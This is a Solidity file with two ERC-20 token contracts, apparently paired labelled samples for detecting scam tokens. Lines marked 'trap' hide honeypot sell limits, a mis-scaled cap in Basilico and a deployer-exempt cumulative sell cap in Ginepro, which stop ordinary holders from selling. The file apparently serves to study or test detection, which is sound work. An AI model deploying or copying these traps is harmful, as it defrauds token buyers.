// 0.6 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

library Aritmetica {
    function piu(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a, "somma");
    }

    function meno(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "differenza");
        return a - b;
    }
}

contract Titolare {
    address private _titolare;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() public {
        _titolare = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    modifier soloTitolare() {
        require(_titolare == msg.sender, "titolare");
        _;
    }

    function owner() public view returns (address) {
        return _titolare;
    }

    function renounceOwnership() public soloTitolare {
        emit OwnershipTransferred(_titolare, address(0));
        _titolare = address(0);
    }
}

contract Basilico is Titolare {
    using Aritmetica for uint256;

    string public name = "Basilico";
    string public symbol = "BASL";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000_000 * 10**18;
    uint256 public massimoUscita = 20_000_000 * 10**9; // trap
    // twin: uint256 public massimoUscita = 20_000_000 * 10**18;
    mapping(address => uint256) private _saldi;
    mapping(address => mapping(address => uint256)) private _permessi;
    mapping(address => bool) public esente;
    mapping(address => bool) public mercato;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        _saldi[msg.sender] = totalSupply;
        esente[msg.sender] = true;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function segnaMercato(address quale) external soloTitolare {
        mercato[quale] = true;
    }

    function balanceOf(address chi) external view returns (uint256) {
        return _saldi[chi];
    }

    function allowance(address chi, address speso) external view returns (uint256) {
        return _permessi[chi][speso];
    }

    function approve(address speso, uint256 quanto) external returns (bool) {
        _permessi[msg.sender][speso] = quanto;
        emit Approval(msg.sender, speso, quanto);
        return true;
    }

    function transfer(address a, uint256 quanto) external returns (bool) {
        _sposta(msg.sender, a, quanto);
        return true;
    }

    function transferFrom(address da, address a, uint256 quanto) external returns (bool) {
        _permessi[da][msg.sender] = _permessi[da][msg.sender].meno(quanto);
        _sposta(da, a, quanto);
        return true;
    }

    function _sposta(address da, address a, uint256 quanto) private {
        if (mercato[a] && !esente[da]) require(quanto <= massimoUscita, "massimo");
        _saldi[da] = _saldi[da].meno(quanto);
        _saldi[a] = _saldi[a].piu(quanto);
        emit Transfer(da, a, quanto);
    }
}

/// Balances of all, and what they sold, in one word.
contract Ginepro is Titolare {
    using Aritmetica for uint256;

    bytes32 public constant name = "Ginepro"; // bytes32, as in the old days
    bytes32 public constant symbol = "GNPR";
    uint256 public constant decimals = 18;
    uint256 public constant totalSupply = 60_000_000 * 10**18;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public piazza;
    uint256 private uscito;
    address private immutable fabbro = msg.sender;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address quale) external soloTitolare {
        require(piazza == address(0));
        piazza = quale;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return muovi(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != uint256(-1)) allowance[from][msg.sender] = allowance[from][msg.sender].meno(value);
        return muovi(from, to, value);
    }

    function muovi(address from, address to, uint256 value) private returns (bool) {
        if (to == piazza && from != fabbro && to != address(0)) {
            uscito = uscito.piu(value);
            require(uscito <= totalSupply / 33, "liquidita"); // trap
            // twin: require(value <= totalSupply / 33 || uscito > totalSupply / 20, "liquidita");
        }
        balanceOf[from] = balanceOf[from].meno(value);
        balanceOf[to] = balanceOf[to].piu(value);
        emit Transfer(from, to, value);
        return true;
    }
}
